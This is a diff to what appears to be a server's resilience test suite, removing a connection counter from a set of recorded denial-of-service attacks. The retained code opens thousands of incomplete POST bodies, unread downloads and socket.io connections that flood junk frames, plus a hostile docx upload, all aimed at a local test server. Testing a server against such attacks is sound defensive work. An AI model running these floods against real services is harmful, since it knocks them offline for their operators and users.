@@ -15,14 +15,8 @@ export interface Target {
   readonly content: string
 }
 
-/** How many connections an attack has opened, and how many of them the server has not ended. */
-export interface Held {
-  opened: number
-  open: number
-}
-
-/** Goes on until its process ends. Counts in `held` the connections that it only keeps open. */
-type Attack = (target: Target, held: Held) => Promise<void>
+/** Goes on until its process is ended, or leaves connections open that end with its process. */
+type Attack = (target: Target) => Promise<void>
 
 /** The attacks that once stopped a server, one of each kind. */
 export const attacks: Readonly<Record<string, Attack>> = {
@@ -49,34 +43,29 @@ export const attacks: Readonly<Record<string, Attack>> = {
     const hostile = docx({ parts: { '[Content_Types].xml': tags } })
     await repeat(60, () => refusedFile(url, by, hostile))
   },
-  'two thousand bodies for nobody': async ({ port }, held) => {
+  'two thousand bodies for nobody': async ({ port }) => {
     const head = headOf('POST', '/nothing', port, {
       'content-type': 'application/json',
       'content-length': 250_000,
     })
-    await keepOpen(2_000, held, () => {
+    await keepOpen(2_000, () => {
       const line = dial({ port, host: '127.0.0.1' })
       line.write(`${head}{`)
       return line
     })
   },
-  'a thousand downloads that are not read': async ({ port, content }, held) => {
+  'a thousand downloads that are not read': async ({ port, content }) => {
     const head = headOf('GET', new URL(content).pathname, port, {})
-    await keepOpen(1_000, held, () => {
+    await keepOpen(1_000, () => {
       const line = dial({ port, host: '127.0.0.1' })
       line.write(head)
       return line.pause()
     })
   },
-  'a thousand sockets, and acknowledgements of nothing': async ({ url, by }, held) => {
+  'a thousand sockets, and acknowledgements of nothing': async ({ url, by }) => {
     for (let count = 0; count < 1_000; count += 1) {
       const socket = await connect(url, by.patient).catch(() => undefined)
       if (socket === undefined) continue
-      held.opened += 1
-      held.open += 1
-      socket.on('disconnect', () => {
-        held.open -= 1
-      })
       const { engine } = socket.io
       const flood = setInterval(() => {
         for (let frame = 0; frame < 20; frame += 1) engine.write('431[null]')
@@ -137,16 +126,9 @@ async function command(url: string, token: string, name: string, payload: () => 
   }
 }
 
-async function keepOpen(count: number, held: Held, open: () => Line): Promise<void> {
+async function keepOpen(count: number, open: () => Line): Promise<void> {
   for (let at = 0; at < count; at += 1) {
-    const line = open()
-    held.opened += 1
-    held.open += 1
-    line
-      .on('error', () => undefined)
-      .on('close', () => {
-        held.open -= 1
-      })
+    open().on('error', () => undefined)
     if (at % 50 === 0) await pause(5)
   }
 }
